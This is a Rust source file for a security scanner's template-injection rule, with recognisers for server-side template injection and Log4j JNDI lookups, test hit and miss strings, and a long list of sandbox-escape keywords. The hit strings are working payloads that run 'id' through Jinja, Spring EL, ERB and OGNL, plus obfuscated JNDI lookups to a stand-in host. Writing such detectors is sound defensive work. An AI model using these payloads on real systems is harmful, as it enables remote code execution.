//! Expressions that a template engine would run: they compute, or reach for what lies behind the page's values.

use std::ops::Range;

use memchr::{memchr_iter, memmem};

use super::ends::ends;
use crate::rule::Rule;
use crate::scan::{Language, Look, Match, Parameter, Recognizer};

/// `threats/template-injection`
pub static RULE: Rule = Rule {
    id: "threats/template-injection",
    summary: "template expression that runs code",
    why: "A tool that renders a value as a template runs what stands between its braces, up to any command. Left alone: placeholders \
          and filters (`{{ user.name | title }}`, `${HOME}`), templates of several lines, and the templates of build systems.",
    source: "CWE-1336 and CWE-917; OWASP Web Security Testing Guide, Testing for Server-Side Template Injection; CVE-2021-44228",
    ..Rule::ATTACK
};

/// Finds such expressions.
pub static RECOGNIZERS: &[Recognizer] = &[Recognizer {
    rule: &RULE,
    entity: "CODE_INJECTION",
    region: None,
    look: Look::Parameter(find),
    hits: &[
        "see {{7*7}}",
        "Hello {{config}}",
        "see {{''.__class__.__mro__[1].__subclasses__()}}",
        "see {{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "${7*7}",
        "#{ 7*7 }",
        "<%= system('id') %>",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "${jndi:ldap://files.example/a}",
        "${${lower:j}ndi:rmi://files.example/a}",
        "<#assign x=\"freemarker.template.utility.Execute\"?new()>",
        "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
        "see {{constructor.constructor('return process')()}}",
        "see {php}echo `id`;{/php}",
    ],
    misses: &[
        "see {{name}}",
        "Dear {{ user.first_name | title }}, welcome",
        "${HOME}/bin",
        "${{ secrets.TOKEN }}",
        "see {{ config.site_name }} on {{ page.date }}",
        "#{name} is #{age}",
        "<%= user.name %>",
        "see {% for item in items %}{{ item }}{% endfor %}",
        "${env:PATH}",
        "{\"a\": {\"b\": {\"c\": 1}}}",
        "x = {{1, 2}, {3, 4}}",
    ],
}];

/// Of a longer value the ends are looked at.
const VALUE_BYTES_MAX: usize = 4096;
/// A value of more lines is a document.
const VALUE_LINES_MAX: usize = 3;
/// So much of an expression is looked at.
const EXPRESSION_BYTES_MAX: usize = 512;
/// So much of all expressions of a stretch is looked at, each with what it costs to look at it at all; then what ends the stretch.
const WORK_MAX: usize = 16 << 10;
const EXPRESSION_WORK: usize = 64;

/// Where a value has an expression that runs code.
pub fn find(parameter: &Parameter<'_>) -> Option<Match> {
    let text = parameter.text;
    if parameter.is_key || parameter.language != Language::Undeclared || text.len() < 5 {
        return None;
    }
    let (bytes, has) = (text.as_bytes(), parameter.bytes());
    let has_pair = |first: u8, second: u8| has.has_all(&[first, second]) && memmem::find(bytes, &[first, second]).is_some();
    let has_signs = has.has(b'{')
        || has_pair(b'<', b'%')
        || has_pair(b'<', b'#')
        || has_pair(b'<', b'!')
        || has_pair(b'@', b'(')
        || has_pair(b'[', b'#')
        || has_pair(b'#', b's');
    if !has_signs || memchr_iter(b'\n', text.trim_ascii_end().as_bytes()).nth(VALUE_LINES_MAX).is_some() {
        return None;
    }
    let in_command = parameter.holds_command();
    let trimmed = text.trim_ascii_end().len();
    let stretches: Vec<_> =
        if trimmed > VALUE_BYTES_MAX { ends(text, 0..trimmed).collect() } else { std::iter::once(0..trimmed).collect() };
    let span = stretches.into_iter().find_map(|stretch| {
        let part = &text[stretch.clone()];
        let found = match in_stretch(part, 0, in_command) {
            Ok(found) => found?,
            // What is left after that many expressions is looked at from its end.
            Err(reached) => {
                let tail = part.ceil_char_boundary(reached.max(part.len().saturating_sub(EXPRESSION_BYTES_MAX)));
                in_stretch(part, tail, in_command).ok()??
            }
        };
        Some(stretch.start + found.start..stretch.start + found.end)
    })?;
    Some(Match { start: span.start, end: span.end, score: 0.8 })
}

/// The expression of a stretch, from an offset on, that runs code; or how far it was looked at.
fn in_stretch(text: &str, mut from: usize, in_command: bool) -> Result<Option<Range<usize>>, usize> {
    let is_opening = |&byte: &u8| matches!(byte, b'{' | b'<' | b'#' | b'@' | b'[');
    let mut left = WORK_MAX;
    while let Some(ahead) = text.as_bytes()[from..].iter().position(is_opening) {
        let start = from + ahead;
        let Some((form, is_marked)) = form_at(text, start) else {
            from = start + 1;
            continue;
        };
        let Some(expression) = expression(text, start, form, is_marked) else {
            left = left.checked_sub(EXPRESSION_BYTES_MAX / 4).ok_or(start)?;
            from = start + 1;
            continue;
        };
        left = left.checked_sub(expression.inside.len() + EXPRESSION_WORK).ok_or(start)?;
        let is_attack = if in_command { is_lookup(expression.inside) } else { expression.is_attack() };
        if is_attack {
            return Ok(Some(expression.span));
        }
        from = start + expression.opening;
    }
    Ok(None)
}

struct Expression<'t> {
    span: Range<usize>,
    inside: &'t str,
    /// How long what opens it is, from where it was found on.
    opening: usize,
    /// `{{ }}`, `{% %}`: of an engine, whatever the language around.
    is_of_engine: bool,
}

/// What opens an expression, what closes it, and whether it is of an engine.
type Form = (&'static str, &'static str, bool);

/// What opens an expression at an offset, and whether a sign before it says so.
fn form_at(text: &str, start: usize) -> Option<(Form, bool)> {
    const FORMS: &[Form] = &[
        ("{{", "}}", true),
        ("{%", "%}", true),
        ("{php}", "{/php}", true),
        ("{", "}", false),
        ("<%", "%>", true),
        ("<#", ">", true),
        ("<!--#", "-->", true),
        ("[#", "]", true),
        ("#set", ")", true),
        ("@(", ")", true),
    ];
    let form = FORMS.iter().find(|(open, ..)| text[start..].starts_with(open))?;
    let before = start.checked_sub(1).map(|before| text.as_bytes()[before]);
    let is_marked = matches!(before, Some(b'$' | b'#' | b'*' | b'%' | b'@' | b'~' | b'!' | b'+'));
    // A brace alone is anybody's, but for the names of one engine.
    let inside = &text[start + form.0.len()..];
    let is_known = ["system(", "$smarty", "Smarty_"].iter().any(|begin| inside.starts_with(begin));
    (form.0 != "{" || is_marked || is_known).then_some((*form, is_marked))
}

/// The expression that begins at an offset.
fn expression(text: &str, start: usize, form: Form, is_marked: bool) -> Option<Expression<'_>> {
    let (open, close, is_of_engine) = form;
    let window = &text[start..text.floor_char_boundary(text.len().min(start + EXPRESSION_BYTES_MAX))];
    let from = open.len();
    let end = match window.get(from..)?.find(close) {
        // Braces within: the last that fits closes it.
        Some(length) if open == "{" => window
            .rfind('}')
            .map_or(from + length, |last| if window[from..from + length].contains('{') { last } else { from + length }),
        Some(length) => from + length,
        None if open == "{{" || is_marked => window.len(),
        None => return None,
    };
    let inside = window.get(from..end)?;
    let first = if is_marked { start - 1 } else { start };
    let last = (start + end + close.len()).min(text.len());
    Some(Expression { span: first..text.ceil_char_boundary(last), inside, opening: open.len(), is_of_engine })
}

impl Expression<'_> {
    fn is_attack(&self) -> bool {
        let lower = self.inside.to_ascii_lowercase();
        let inside = lower.trim().trim_start_matches(['=', '-', '#', '{', '%']).trim_end_matches(['-', '}', '%']).trim();
        is_computed(inside, self.is_of_engine)
            || is_lookup(inside)
            || reaches(inside)
            || self.is_of_engine
                && matches!(
                    inside,
                    "config"
                        | "self"
                        | "_self"
                        | "request"
                        | "settings"
                        | "app"
                        | "debug"
                        | "config.items()"
                        | "settings.secret_key"
                        | "this"
                        | "$smarty.version"
                        | "applicationscope"
                        | "sessionscope"
                )
    }
}

/// `7*7`: an answer that nobody needs to ask for.
fn is_computed(inside: &str, is_of_engine: bool) -> bool {
    let is_number = |text: &str| {
        let text = text.trim().trim_matches(['\'', '"']);
        !text.is_empty() && text.len() <= 12 && text.bytes().all(|byte| byte.is_ascii_digit())
    };
    let signs: &[char] = if is_of_engine { &['*', '+', '-', '/'] } else { &['*'] };
    inside.split_once(signs).is_some_and(|(left, right)| is_number(left) && is_number(right.trim_start_matches('*')))
}

/// What Log4j looks up, plainly or in pieces.
fn is_lookup(inside: &str) -> bool {
    let lower = inside.to_ascii_lowercase();
    let lower = lower.trim();
    if lower.starts_with("jndi:") {
        return true;
    }
    let pieces = ["${lower:", "${upper:", "${::-", "${env:", "${sys:", "${date:", "${k8s:", "{lower:", "{upper:", "{::-"];
    let nested = pieces.iter().map(|piece| lower.matches(piece).take(3).count()).sum::<usize>();
    nested > 0
        && (lower.contains("ndi") || lower.contains("ldap") || lower.contains("rmi") || lower.contains("://") || nested > 1)
        || lower.starts_with("::-")
}

/// Whether an expression, in lower case, reaches for what lies behind the page's values.
fn reaches(inside: &str) -> bool {
    const ALWAYS: &[&str] = &[
        "__class__",
        "__mro__",
        "__subclasses__",
        "__globals__",
        "__builtins__",
        "__import__",
        "__init__",
        "__base__",
        "__bases__",
        "__getattribute__",
        "__getitem__",
        "__dict__",
        "\\x5f\\x5fclass",
        "\\u005f\\u005f",
        "|attr(",
        "| attr(",
        "lipsum.",
        "cycler.",
        "joiner.",
        "namespace.__",
        "get_flashed_messages.",
        "url_for.__",
        "_self.env",
        "registerundefinedfiltercallback",
        "getfilter(",
        "|filter('system",
        "|map('system",
        "|filter(\"system",
        "|map(\"system",
        "|sort('system",
        "['id']|",
        "[\"id\"]|",
        "constructor.constructor",
        "[\"constructor\"]",
        "['constructor']",
        ".constructor(",
        "lookup string.sub",
        "string.sub \"constructor",
        "getclass()",
        ".class.forname",
        "class.forname",
        "getruntime",
        "java.lang",
        "java.util.scanner",
        "t(java",
        "processbuilder",
        "new java.",
        "@java.",
        "javax.script",
        "scriptenginemanager",
        "freemarker.template.utility",
        "?new()",
        "?api.",
        "#_memberaccess",
        "@ognl",
        "#context[",
        "ognl.",
        "#application",
        "class.inspect",
        "$class.",
        "mainmodule",
        "child_process",
        "process.env",
        "process.binding",
        "require(",
        "global.process",
        "os.popen",
        "os.system",
        "popen(",
        "subprocess",
        "subclasses()",
        "xwork.",
        "methodaccessor",
        ".mro",
        "config.iteritems",
        "sleep(",
        "@print(",
        "exec cmd=",
        "include file=",
        "include virtual=",
        "shell_exec",
        "passthru(",
        "file_get_contents",
        "readfile(",
        "phpinfo(",
        "system(",
        "exec(",
        "eval(",
        "file.open",
        "file.read",
        "dir.entries",
        "dir.glob",
        "io.popen",
        "io.read",
        "kernel.",
        "%x(",
        "%x|",
        "open3",
        "runtime.exec",
        "request.application",
        "config.from_object",
        "config['",
        "config[\"",
        "app.request",
        "import os",
        "os.environ",
        "system.diagnostics",
        "assembly.load",
        "getenv(",
        "invoke(",
        "getmethod(",
        "include '/",
        "include \"/",
        "source('/",
        "load_file(",
        "self.class",
        "smarty_internal",
        "$smarty.",
        "dump(app",
        "dump(_context",
    ];
    if ALWAYS.iter().any(|word| inside.contains(word)) {
        return true;
    }
    // `#{`id`}`: backticks run a command in Ruby and PHP.
    memchr_iter(b'`', inside.as_bytes()).nth(1).is_some() && inside.trim().starts_with('`') || inside.starts_with("echo `")
}
